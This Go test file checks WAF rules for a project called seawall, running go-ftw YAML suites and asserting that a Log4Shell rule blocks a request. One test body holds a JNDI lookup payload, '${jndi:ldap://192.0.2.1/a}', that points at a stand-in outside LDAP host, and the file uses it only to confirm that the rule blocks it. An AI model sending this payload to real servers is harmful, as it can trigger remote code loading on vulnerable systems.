package rules

import (
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	ftw "github.com/coreruleset/go-ftw/v2/test"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// exampleRules is what tests/*.yaml are written for, here and behind an Envoy.
const exampleRules = "Include @seawall/*.conf\nInclude @seawall.conf"

// The same files run through go-ftw against a real Envoy; here they need none.
func TestExampleRules(t *testing.T) {
	waf := compiled(t, exampleRules)
	files, err := filepath.Glob("tests/*.yaml")
	require.NoError(t, err)
	for _, file := range files {
		text, err := os.ReadFile(file)
		require.NoError(t, err)
		suite, err := ftw.GetTestFromYaml(text, file)
		require.NoError(t, err, file)
		require.NotEmpty(t, suite.Tests, file)
		for _, test := range suite.Tests {
			for _, stage := range test.Stages {
				name := strings.TrimSuffix(filepath.Base(file), ".yaml")
				t.Run(name+"/"+strconv.Itoa(int(test.TestId))+" "+test.TestDescription, func(t *testing.T) {
					got := send(t, waf, asSent(ftw.NewInput(&stage.Input)))
					if stage.Output.Status != 0 {
						assert.Equal(t, stage.Output.Status, got.status)
					}
					for _, id := range stage.Output.Log.ExpectIds {
						assert.Contains(t, got.logged, int(id))
					}
					for _, id := range stage.Output.Log.NoExpectIds {
						assert.NotContains(t, got.logged, int(id))
					}
				})
			}
		}
	}
}

// Each example has a test file, and each file both refuses and passes something.
func TestEveryExampleIsTestedBothWays(t *testing.T) {
	examples, err := filepath.Glob("examples/*.conf")
	require.NoError(t, err)
	for _, example := range examples {
		name := strings.TrimSuffix(filepath.Base(example), ".conf")
		text, err := os.ReadFile(filepath.Join("tests", name+".yaml"))
		require.NoError(t, err)
		assert.Contains(t, string(text), "status: 403", name)
		assert.Contains(t, string(text), "status: 200", name)
	}
}

// CRS refuses text/plain in phase 1, so this body needs the patch alone.
func TestLog4ShellIsFoundInABodyWithoutAParser(t *testing.T) {
	waf := compiled(t, "SecRuleEngine On\nSecRequestBodyAccess On\nInclude @seawall/log4shell.conf")
	r := browserLike("/")
	r.method, r.body = "POST", "note ${jndi:ldap://192.0.2.1/a}"
	r.headers = append(r.headers, [2]string{"Content-Type", "text/plain"})
	assert.Equal(t, answer{status: 403, rule: 9000202, logged: []int{9000202}}, send(t, waf, r))
}

// asSent is the request as it arrives: with the length that go-ftw adds, and
// from the address that Envoy takes from X-Forwarded-For behind one trusted hop.
func asSent(input *ftw.Input) request {
	r := request{
		method:  input.GetMethod(),
		uri:     input.GetURI(),
		version: input.GetVersion(),
		body:    string(input.GetData()),
	}
	for name, value := range input.Headers {
		r.headers = append(r.headers, [2]string{name, value})
		if strings.EqualFold(name, "x-forwarded-for") {
			hops := strings.Split(value, ",")
			r.client = strings.TrimSpace(hops[len(hops)-1])
		}
	}
	if r.body != "" {
		r.headers = append(r.headers, [2]string{"Content-Length", strconv.Itoa(len(r.body))})
	}
	slices.SortFunc(r.headers, func(a, b [2]string) int { return strings.Compare(a[0], b[0]) })
	return r
}
